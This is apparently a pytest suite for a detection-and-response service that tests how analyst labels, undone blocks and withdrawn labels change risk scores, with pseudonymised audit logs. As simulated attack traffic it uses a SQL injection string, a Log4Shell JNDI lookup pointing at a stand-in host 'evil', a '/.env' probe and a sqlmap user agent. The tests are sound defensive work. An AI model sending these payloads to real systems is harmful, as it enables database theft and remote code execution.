"""Labels in a service: recorded before they act, undone without a trace, and learnt from an undo."""

import json
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from compliance.audit import LogReader
from ostiary.cli.label import command
from ostiary.engine import Engine, Outcome
from ostiary.judge import make_decider
from ostiary.labelling import Said, taught
from ostiary.recorder import Recorder
from ostiary.settings import Settings
from ostiary.state import State
from ostiary.store import RunRecord
from ostiary.summary import Summary
from ostiary.teaching import Teacher
from response.guards import NeverList
from response.responder import Responder
from response.settings import ResponseSettings
from response.values import ActionState
from risk.engine import RiskEngine
from sensors.values import HTTP, Batch, Entity, EntityKind, Kind

NOW = 1_764_000_000_000_000_000
SECOND = 1_000_000_000
SCANNER, OTHER = "203.0.113.9", "203.0.113.10"
ATTACK = "/item?id=1' UNION SELECT password FROM users--"


@dataclass
class Fence:
    """An actuator in memory."""

    name: str = "fence"
    cut: dict[Entity, float] = field(default_factory=dict)

    def apply(self, target: Entity, lease_s: float) -> None:
        self.cut[target] = lease_s

    def undo(self, target: Entity) -> bool:
        return self.cut.pop(target, None) is not None

    def active(self) -> Sequence[tuple[Entity, float]]:
        return list(self.cut.items())

    def teardown(self) -> None:
        self.cut.clear()


class House:
    """What a service's engine thread has at hand, without its threads."""

    def __init__(self, state: State, settings: Settings) -> None:
        self.state, self.fence = state, Fence()
        self.recorder = Recorder(state, settings)
        responder = Responder(settings.response, self.fence, NeverList(()), self.recorder)
        self.engine = Engine(RiskEngine(settings.risk), make_decider(settings), responder)
        self.teacher = Teacher(state, self.recorder, self.engine.risk, 7)
        self.recorder.begin(RunRecord(f"r{len(state.store.runs())}", NOW, "service"))
        self.teacher.begin()
        self.at = 0

    def asks(self, path: str, who: str = SCANNER, agent: str = "x", times: int = 1) -> list[Outcome]:
        """Show requests, and do with them what a service does."""
        rows = np.zeros(times, HTTP)
        rows["ts"] = NOW + (self.at + np.arange(times)) * SECOND
        self.at += times
        rows["orig"], rows["path"], rows["method"], rows["agent"], rows["status"] = 1, 2, 3, 4, 200
        batch = Batch(("access.log",), 2**62, {Kind.HTTP: rows}, ("", who, path, "GET", agent))
        outcomes = self.engine.decide(batch)
        self.recorder.outcomes(outcomes)
        done = self.engine.act(outcomes)
        self.recorder.flush()
        summary = Summary()
        summary.add(outcomes)
        self.recorder.entities(summary.lines())
        return done

    def risk(self, who: str = SCANNER) -> float:
        return self.engine.risk.risk(Entity(EntityKind.IP, who), NOW + self.at * SECOND)

    def name(self, who: str = SCANNER) -> str:
        return self.recorder.name(Entity(EntityKind.IP, who))


@pytest.fixture
def settings(tmp_path: Path) -> Settings:
    return Settings(state_dir=str(tmp_path / "state"), response=ResponseSettings(mode="enforce"))


@contextmanager
def opened(settings: Settings) -> Iterator[House]:
    with State.open(settings) as state:
        yield House(state, settings)


def test_an_undone_action_is_not_taken_again_for_the_same_evidence(settings: Settings) -> None:
    with opened(settings) as house:
        house.asks(ATTACK, times=3)
        (action,) = house.engine.responder.active()
        assert list(house.fence.cut) == [Entity(EntityKind.IP, SCANNER)]
        undone = house.engine.responder.undo(action.id)
        assert undone is not None
        label = house.teacher.undone(house.recorder.action(undone), "alice")
        assert label is not None and (label.origin, label.malicious) == ("undo", False)
        assert house.risk() == 0
        assert not [outcome for outcome in house.asks(ATTACK, times=5) if outcome.action]
        assert not house.fence.cut
        house.asks("/?x=${jndi:ldap://evil/a}", times=2)  # what it did not do before counts in full
        assert house.fence.cut
        house.fence.cut.clear()
        house.asks(ATTACK, OTHER, times=3)  # and so does what another does
        assert list(house.fence.cut) == [Entity(EntityKind.IP, OTHER)]


def test_a_withdrawn_label_brings_the_very_same_risk_back(settings: Settings) -> None:
    with opened(settings) as house:
        house.asks(ATTACK, times=3)
        before, revision = house.risk(), house.engine.risk.revision
        label = house.teacher.say(house.name(), Said(False, "ours", "alice"))
        assert label is not None and house.risk() == 0 and house.engine.risk.revision != revision
        assert house.teacher.withdraw(label.id, "bob") == house.teacher.withdraw(label.id, "carol")
        assert (house.risk(), house.engine.risk.revision) == (before, revision)
        assert house.teacher.withdraw("nothing", "bob") is None


def test_labels_outlive_the_service_and_are_audited_without_names(settings: Settings) -> None:
    with opened(settings) as house:
        house.asks(ATTACK, times=3)
        assert house.teacher.say(house.name(), Said(False, f"{SCANNER} is ours", "alice"))
        assert house.teacher.say("ip-unknown", Said(False, "", "alice")) is None
        assert house.teacher.say(f"{house.name()}#scan.vertical", Said(True, "", "alice")) is None
    with opened(settings) as house:
        assert house.teacher.feedback.labels
        house.asks(ATTACK, times=3)
        assert house.risk() == 0
        assert SCANNER not in repr(house.state.store.labels())
    log = LogReader.read(settings.state_path() / "audit")
    entries = log.entries(0, log.size)
    kinds = [entry.kind for entry in entries]
    assert kinds.index("label") < kinds.index("model.revision")
    assert not any(SCANNER in json.dumps(dict(entry.facts)) + entry.why for entry in entries)


def test_a_decision_and_a_single_evidence_can_be_labelled(settings: Settings) -> None:
    with opened(settings) as house:
        house.asks(ATTACK, agent="sqlmap/1.0", times=2)
        (decision, *_) = house.state.store.decisions(entity=house.name()).items
        both = house.risk()
        one = house.teacher.say(f"{house.name()}#web.sql", Said(False, "", "alice"))
        assert one is not None and not one.whole and [case[0] for case in one.cases] == ["web.sql"]
        assert 0.5 < house.risk() < both
        all_of_it = house.teacher.say(decision.id, Said(False, "", "alice"))
        assert all_of_it is not None and {case[0] for case in all_of_it.cases} == {"web.sql", "web.scanner"}
        assert house.risk() == 0


def test_the_command_without_a_service(settings: Settings) -> None:
    with opened(settings) as house:
        house.asks(ATTACK, times=3)
        house.asks("/.env", OTHER, times=1)

    def ask(*arguments: str) -> str:
        result = CliRunner().invoke(command, [*arguments, "--state", settings.state_dir], catch_exceptions=False)
        assert result.exit_code == 0, result.output
        return result.output

    asked = [json.loads(line) for line in ask("--ask", "5", "--json").splitlines()]
    assert len(asked) == 2 and asked[0]["worth"] >= asked[1]["worth"] > 0
    given = json.loads(ask(SCANNER, "benign", "--note", "our scanner", "--json"))
    assert given["cases"][0][0] == "web.sql" and not given["withdrawn_ns"]
    assert len(ask("--ask", "5", "--json").splitlines()) == 1
    with State.open(settings) as state:
        feedback = taught(state, 7)
        assert [label.entity for label in feedback.labels] == [Entity(EntityKind.IP, SCANNER)]
    assert json.loads(ask("--withdraw", given["id"], "--json"))["withdrawn_ns"]
    assert [json.loads(line)["id"] for line in ask("--list", "--json").splitlines()] == [given["id"]]
    assert "our scanner" in ask("--list")
    with State.open(settings) as state:
        assert not taught(state, 7).labels
    wrong = CliRunner().invoke(command, ["--list", SCANNER, "benign", "--state", settings.state_dir])
    assert wrong.exit_code == 2


def test_a_forest_grows_beside_and_is_taken_up_between_batches(settings: Settings) -> None:
    with opened(settings) as house:
        house.asks(ATTACK, times=3)
        for number in range(101):
            house.teacher.say(house.name(), Said(number % 2 == 0, "", "alice"))
        assert house.teacher._growing is not None
        house.teacher._growing.result(timeout=120)
        house.teacher.turn()
        assert house.teacher._growing is None
        house.teacher.close()


def test_an_action_whose_decision_is_gone_still_teaches(settings: Settings) -> None:
    with opened(settings) as house:
        house.asks(ATTACK, times=3)
        (action,) = house.engine.responder.active()
        undone = house.engine.responder.undo(action.id)
        assert undone is not None and undone.state is ActionState.UNDONE
        record = house.recorder.action(undone)
        label = house.teacher.undone(replace(record, decision_id="gone"), "alice")
        assert label is not None and label.pseudonym == house.name()
